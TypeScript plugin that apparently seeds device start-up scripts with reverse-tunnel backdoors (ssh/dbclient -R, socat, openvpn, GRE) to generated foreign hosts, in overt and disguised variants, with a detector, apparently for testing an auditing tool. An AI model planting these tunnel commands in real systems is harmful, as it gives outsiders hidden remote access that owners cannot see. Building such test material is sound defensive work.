import type { Implant } from '#domain/plugin';
import { foreignAddress, foreignHost, foreignPort, vehiclesOf } from '#engine/ground/vehicles';

/** Way in from outside through a tunnel. */
export const reverseTunnel: Implant = {
  kind: 'implant',
  id: 'reverse-tunnel',
  version: 1,
  doc: {
    name: 'Way in from outside through a tunnel',
    says: 'The device opens a connection to somebody and lets him come back through it.',
    sources: ['ssh(1) of OpenSSH; dbclient(1) of Dropbear; socat(1)'],
    limits: [
      'Tunnels of programs that the target does not have are not planted; nor those in the kernel.',
      'The root file system is taken to be writable at start-up; what only a test, a loop or a variable leads to carries no plant.',
    ],
  },
  question: 'undocumented-communication',
  templates: vehiclesOf({
    ways: [
      (site, level, draw) =>
        site.has('ssh')
          ? [
              `ssh -f -N -y -i /etc/${level === 'overt' ? 'away' : 'dropbear/dropbear_rsa_host'}_key -R ${foreignPort(level, draw)}:127.0.0.1:22 ${level === 'overt' ? 'away' : 'field'}@${foreignHost(site, level, draw)}`,
            ]
          : null,
      (site, level, draw) =>
        site.has('dbclient')
          ? [
              `dbclient -f -N -y -R ${foreignPort(level, draw)}:localhost:22 ${foreignHost(site, level, draw)}`,
            ]
          : null,
      (site, level, draw) =>
        site.has('socat')
          ? [`socat TCP:${foreignHost(site, level, draw)}:${foreignPort(level, draw)} TCP:127.0.0.1:22 &`]
          : null,
      (site, level, draw) =>
        site.has('openvpn')
          ? [
              `openvpn --daemon --dev tap --remote ${foreignHost(site, level, draw)} ${foreignPort(level, draw)} --secret /etc/ppp/chat.key`,
            ]
          : null,
      (site, level, draw) =>
        site.has('ip')
          ? [
              `ip tunnel add ${level === 'overt' ? 'far0' : 'gre6'} mode gre remote ${foreignAddress(draw)} local any`,
              `ip link set ${level === 'overt' ? 'far0' : 'gre6'} up`,
            ]
          : null,
    ],
    isDone: ({ started }) =>
      started.some(
        ({ program, words }) =>
          (/^(?:ssh|dbclient)$/.test(program) && words.includes('-R')) ||
          (program === 'socat' && words.length === 2) ||
          (program === 'openvpn' && words.includes('--remote')) ||
          (program === 'ip' && words.includes('tunnel') && words.includes('remote')),
      ),
  }),
};
